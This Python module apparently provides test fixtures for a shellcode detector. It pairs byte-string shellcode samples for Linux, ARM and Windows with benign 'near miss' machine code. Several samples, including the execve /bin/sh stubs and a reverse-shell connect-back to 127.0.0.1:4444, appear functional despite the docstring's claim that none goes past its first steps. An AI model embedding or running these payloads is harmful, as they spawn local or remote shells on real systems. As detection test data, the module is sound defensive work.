"""Position-independent stubs, assembled by hand; none does more than its first steps."""

from __future__ import annotations

import random

_h = bytes.fromhex
_NOISE = random.Random(7).randbytes(256)

SHELLCODE: dict[str, bytes] = {
    # push imm8/pop, a string on the stack, execve
    "linux x86-64 execve": _h("4831d248bb2f2f62696e2f736848c1eb08534889e750574889e6b03b0f05"),
    "linux x86-64 execve, negated string": _h(
        "31c048bbd19d9691d08c97ff48f7db53545f995257545eb03b0f05"
    ),
    "linux x86-64 connect back": _h(
        "6a2958996a025f6a015e0f05489748b90200115c7f000001514889e66a105a6a2a580f056a035e48ffce"
        "6a21580f0575f66a3b589948bb2f62696e2f736800534889e752574889e60f05"
    ),
    "linux x86-64 write and exit": _h(
        "b801000000bf01000000488d350e000000ba0d0000000f05b83c00000031ff0f0548656c6c6f2c20776f726c640a"
    ),
    "linux x86 execve": _h("31c050682f2f7368682f62696e89e3505389e1b00bcd80"),
    "linux x86 jump, call, pop": _h(
        "eb185e31c088460789760889460cb00b89f38d4e088d560ccd80e8e3ffffff2f62696e2f736841"
    ),
    "linux arm64 execve": b"".join(
        word.to_bytes(4, "little")
        for word in (0x10000080, 0xD2800001, 0xD2800002, 0xD2801BA8, 0xD4000001)
    )
    + b"/bin/sh\0",
    "linux arm execve, Thumb": _h("01308fe213ff2fe178460830491a921a0b2701df") + b"/bin/sh\0",
    "windows x86-64 block": _h(
        "fc4883e4f0e8c0000000415141505251564831d265488b5260488b5218488b5220488b7250480fb74a4a"
        "4d31c94831c0ac3c617c022c2041c1c90d4101c1e2ed"
    )
    + bytes(133)
    + _h("5d48ba0100000000000000ffd5"),
    "windows x86 walk": _h("fc31c0648b4030 8b400c8b7014ad8b5e10 31ffacc1cf0d01c738e075f7ffd3"),
    "fnstenv and an encoded loop": _h("d9eebd5ea1b3a6d974 24f45a33c9b131316a1883c204") + _NOISE,
    "loop over relative data": _h(
        "4831c94881e9c6ffffff488d05efffffff48bb112233445566778848315827482df8ffffffe2f4"
    )
    + _NOISE,
    "call over an instance": b"\xe8\0\1\0\0"
    + _NOISE
    + _h("5931c0480f88b700000065488b042530000000488b4060c3"),
    "sled": b"\x90" * 32 + _h("31c050682f2f7368682f62696e89e3505389e1b00bcd80"),
}

#: Compiled functions and tables: machine code or worse, but no shellcode.
NEAR_MISSES: dict[str, bytes] = {
    # endbr64; mov eax, 39; syscall; ret
    "system call wrapper": _h("f30f1efab8270000000f05c30f1f8400000000000f1f4400"),
    # push rbp; mov rbp, rsp; call far away; leave; ret
    "prologue": _h("554889e54883ec10897dfce8f0ffff7fc9c3") * 4,
    "system call number, no code": _h("0f05") + bytes(range(1, 60)),
    "text with the bytes of int 0x80": bytes([0xCD, 0x80]) * 20 + b"\1",
    "call of a zeroed table": b"\xe8\0\0\0\0" + bytes(64),
}
